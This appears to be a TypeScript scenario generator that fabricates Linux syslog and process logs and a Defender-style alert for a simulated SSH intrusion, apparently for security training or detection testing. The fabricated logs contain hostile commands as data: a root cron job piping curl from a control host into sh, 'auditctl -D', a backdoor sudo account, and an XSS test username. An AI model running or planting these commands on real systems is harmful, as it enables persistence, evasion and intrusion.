import { Random } from '../random';
import { syslogRow, sysmonRow, type SyslogLine } from '../events/syslog';
import { on, type Moment } from '../moment';
import { CAST, HOSTILE } from './cast';
import type { Stage } from './stage';

type Line = readonly [
  time: string,
  facility: SyslogLine['facility'],
  severity: SyslogLine['severity'],
  process: string,
  pid: number,
  message: string,
];

const KEY = 'SHA256:4jQ0m1qv8nX2yT7bK5sD9fH3gL6pR0wZcVaEuIoYxNk';

/** A user name that someone typed into a log; it must reach every page as text. */
export const HOSTILE_USER = '<img src=x onerror=alert(document.domain)>';

const IP = CAST.fileServer.ip;

const LINES: readonly Line[] = [
  ['01:09:12.0040000', 'auth', 'info', 'sshd', 40211, `Invalid user ${HOSTILE_USER} from ${IP} port 53120`],
  [
    '01:09:14.3900000',
    'auth',
    'info',
    'sshd',
    40211,
    `Failed password for invalid user ${HOSTILE_USER} from ${IP} port 53120 ssh2`,
  ],
  [
    '01:09:58.1120000',
    'auth',
    'info',
    'sshd',
    40215,
    `Failed password for deploy from ${IP} port 53124 ssh2`,
  ],
  [
    '01:10:06.7710000',
    'auth',
    'info',
    'sshd',
    40219,
    `Accepted password for deploy from ${IP} port 53126 ssh2: ${KEY}`,
  ],
  [
    '01:10:06.8020000',
    'authpriv',
    'info',
    'sshd',
    40219,
    'pam_unix(sshd:session): session opened for user deploy by (uid=0)',
  ],
  [
    '01:12:40.5150000',
    'authpriv',
    'notice',
    'sudo',
    40260,
    'deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash',
  ],
  [
    '01:12:40.5210000',
    'authpriv',
    'info',
    'sudo',
    40260,
    'pam_unix(sudo:session): session opened for user root by deploy(uid=0)',
  ],
  ['01:13:22.9080000', 'authpriv', 'info', 'groupadd', 40280, 'new group: name=sysupd, GID=1007'],
  [
    '01:13:22.9410000',
    'authpriv',
    'info',
    'useradd',
    40281,
    'new user: name=sysupd, UID=1007, GID=1007, home=/var/lib/sysupd, shell=/bin/bash, from=/dev/pts/1',
  ],
  ['01:13:41.1030000', 'authpriv', 'info', 'usermod', 40290, "add 'sysupd' to group 'sudo'"],
  ['01:14:55.6170000', 'cron', 'info', 'crontab', 40301, '(root) BEGIN EDIT (root)'],
  ['01:15:37.2080000', 'cron', 'info', 'crontab', 40301, '(root) REPLACE (root)'],
  ['01:15:37.2110000', 'cron', 'info', 'crontab', 40301, '(root) END EDIT (root)'],
  [
    '01:20:01.0310000',
    'cron',
    'info',
    'CRON',
    40322,
    `(root) CMD (curl -fsS http://${HOSTILE.controlIp}/t | sh)`,
  ],
  [
    '01:20:02.4400000',
    'kern',
    'crit',
    'kernel',
    0,
    'audit: kernel module verification failed: signature and/or required key missing - tainting kernel: nf_tune',
  ],
  [
    '01:20:03.1020000',
    'auth',
    'alert',
    'auditd',
    731,
    'Audit daemon rules were changed by uid=0 auid=1002 comm="auditctl" key=(null)',
  ],
  ['01:20:05.9770000', 'daemon', 'crit', 'auditd', 731, 'Audit daemon is low on disk space for logging'],
];

interface Start {
  readonly time: string;
  readonly pid: number;
  readonly image: string;
  readonly command: string;
  readonly parent: number;
}

const STARTS: readonly Start[] = [
  { time: '01:10:06.9000000', pid: 40224, image: '/bin/bash', command: '-bash', parent: 40219 },
  { time: '01:12:40.4900000', pid: 40260, image: '/usr/bin/sudo', command: 'sudo -i', parent: 40224 },
  { time: '01:12:40.5300000', pid: 40261, image: '/bin/bash', command: '/bin/bash', parent: 40260 },
  {
    time: '01:13:22.9300000',
    pid: 40281,
    image: '/usr/sbin/useradd',
    command: 'useradd -r -m -d /var/lib/sysupd -s /bin/bash sysupd',
    parent: 40261,
  },
  { time: '01:14:55.6000000', pid: 40301, image: '/usr/bin/crontab', command: 'crontab -e', parent: 40261 },
  {
    time: '01:20:01.0400000',
    pid: 40323,
    image: '/bin/sh',
    command: `/bin/sh -c curl -fsS http://${HOSTILE.controlIp}/t | sh`,
    parent: 40322,
  },
  {
    time: '01:20:01.0500000',
    pid: 40324,
    image: '/usr/bin/curl',
    command: `curl -fsS http://${HOSTILE.controlIp}/t`,
    parent: 40323,
  },
  {
    time: '01:20:03.0900000',
    pid: 40331,
    image: '/usr/sbin/auditctl',
    command: 'auditctl -D',
    parent: 40323,
  },
];

const CARRIERS = new Map<number, Start>([
  [
    40219,
    {
      time: '01:10:06.7000000',
      pid: 40219,
      image: '/usr/sbin/sshd',
      command: 'sshd: deploy@pts/1',
      parent: 1,
    },
  ],
  [
    40322,
    {
      time: '01:20:01.0300000',
      pid: 40322,
      image: '/usr/sbin/cron',
      command: '/usr/sbin/CRON -f',
      parent: 1,
    },
  ],
]);

const userOf = (start: Start): string => (start.pid <= 40260 ? 'deploy' : 'root');

const processes = (stage: Stage, at: (time: string) => Moment): void => {
  const random = new Random('story', 'linux');
  STARTS.forEach((start, index) => {
    const parent = CARRIERS.get(start.parent) ?? (STARTS.find((one) => one.pid === start.parent) as Start);
    const row = sysmonRow(CAST.webServer, at(start.time), {
      record: 1_900_001 + index,
      pid: start.pid,
      image: start.image,
      command: start.command,
      folder: userOf(start) === 'root' ? '/root' : '/home/deploy',
      user: userOf(start),
      parent: { pid: parent.pid, image: parent.image, command: parent.command, user: userOf(parent) },
      sha256: random.hex(64),
    });
    stage.syslog.push(row);
  });
};

const alert = (stage: Stage): void =>
  stage.alert({
    key: 'alert linux account',
    name: 'New privileged account on a Linux machine',
    severity: 'High',
    description:
      'A new account was added to the sudo group minutes after a password logon over SSH from a file server.',
    product: 'Microsoft Defender for Cloud',
    type: 'VM_LinuxPrivilegedAccount',
    start: on(17, '01:10:06'),
    end: on(17, '01:13:42'),
    tactics: 'Persistence',
    techniques: ['T1136.001'],
    about: CAST.webServer.name,
    properties: { 'New Account': 'sysupd', 'Source IPs': CAST.fileServer.ip, 'User Name': 'deploy' },
    entities: (graph) => {
      graph.host(CAST.webServer);
      graph.add('linux deploy', () => ({
        Name: 'deploy',
        Host: graph.host(CAST.webServer),
        Type: 'account',
      }));
      graph.add('linux sysupd', () => ({
        Name: 'sysupd',
        Host: graph.host(CAST.webServer),
        Type: 'account',
      }));
      graph.ip(CAST.fileServer.ip);
    },
  });

/** Chapter 6, 17 September 01:09: SSH from FS01 to lnx-web01, an account in the sudo group, a root cron job, a kernel module. */
export function linux(stage: Stage): void {
  const at = (time: string): Moment => on(17, time);
  for (const [time, facility, severity, process, pid, message] of LINES)
    stage.syslog.push(syslogRow(CAST.webServer, at(time), { facility, severity, process, pid, message }));
  processes(stage, at);
  alert(stage);
}
